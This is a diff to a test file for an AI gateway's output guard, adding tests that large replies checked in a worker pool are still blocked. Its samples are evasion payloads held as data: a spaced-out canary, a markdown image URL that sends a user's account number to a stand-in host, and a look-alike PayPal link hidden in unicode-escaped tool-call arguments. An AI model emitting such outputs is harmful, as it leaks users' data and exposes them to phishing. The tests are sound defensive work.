@@ -25,8 +25,13 @@ const CANARY = `ZQ-${randomBytes(4).toString("hex").toUpperCase()}-CANARY`;
 
 before(async () => {
   upstream = await startMockUpstream();
-  const base = fullConfig(upstream.url);
-  gw = await startGateway({
+  gw = await startGateway(detectorConfig(upstream.url));
+  openai = new OpenAI({ apiKey: await gw.issue({ models: ["*"] }), baseURL: `${gw.url}/v1`, maxRetries: 0 });
+});
+
+function detectorConfig(upstreamUrl: string, extraGuard: Record<string, unknown> = {}): Record<string, unknown> {
+  const base = fullConfig(upstreamUrl);
+  return {
     ...base,
     models: [
       ...(base.models as object[]),
@@ -42,10 +47,10 @@ before(async () => {
         // The README's allow-list example (guard section).
         "support-bot": { extends: "standard", response: { links: "block" }, links: { allowDomains: ["acme.com"], brands: ["acme"] } },
       },
+      ...extraGuard,
     },
-  });
-  openai = new OpenAI({ apiKey: await gw.issue({ models: ["*"] }), baseURL: `${gw.url}/v1`, maxRetries: 0 });
-});
+  };
+}
 
 after(async () => {
   await gw?.close();
@@ -206,5 +211,39 @@ describe("tool-call arguments with JSON escapes", () => {
     const sent = JSON.stringify(upstream.received.at(-1)?.body);
     assert.ok(sent.includes("login"), "the request reached the upstream");
     assert.ok(!sent.includes("Tr0ub4dor"), sent);
+  });
+});
+
+describe("large replies, inspected in the guard's worker pool, keep these checks", () => {
+  let pooled: TestGateway;
+  let client: OpenAI;
+  // Over the pool's threshold (minChars 1024 here): these replies are inspected off the event loop.
+  const padding = "The weather is fine today and the report is attached. ".repeat(40);
+  before(async () => {
+    pooled = await startGateway(detectorConfig(upstream.url, { pool: { size: 1, minChars: 1024 } }));
+    client = new OpenAI({ apiKey: await pooled.issue({ models: ["*"] }), baseURL: `${pooled.url}/v1`, maxRetries: 0 });
+  });
+  after(async () => {
+    await pooled?.close();
+  });
+  const ask = (model: string, message: object, earlier: OpenAI.ChatCompletionMessageParam[] = []) => {
+    const script = upstream.script({ contentType: "application/json", body: chatReply(message) });
+    return status(client.chat.completions.create({ model, messages: [...earlier, { role: "user", content: script }] }));
+  };
+
+  test("a spaced-out canary", async () => {
+    assert.equal(await ask("watched", { content: `${padding} ${[...CANARY].join(" ")}` }), 422);
+    assert.equal(await ask("watched", { content: padding }), 200, "the padding alone passes");
+  });
+
+  test("a value from the request carried by an image", async () => {
+    const earlier: OpenAI.ChatCompletionMessageParam[] = [{ role: "user", content: "My account number is 88213-4471." }];
+    assert.equal(await ask("std", { content: `${padding} ![ok](https://stats.example/p.png?a=88213-4471)` }, earlier), 422);
+  });
+
+  test("a look-alike link in escaped tool-call arguments", async () => {
+    const escaped = [..."https://paypa1.com/signin"].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
+    const args = `{"note":"${padding}","url":"${escaped}"}`;
+    assert.equal(await ask("std", { tool_calls: [{ id: "call_1", type: "function", function: { name: "open", arguments: args } }] }), 422);
   });
 });
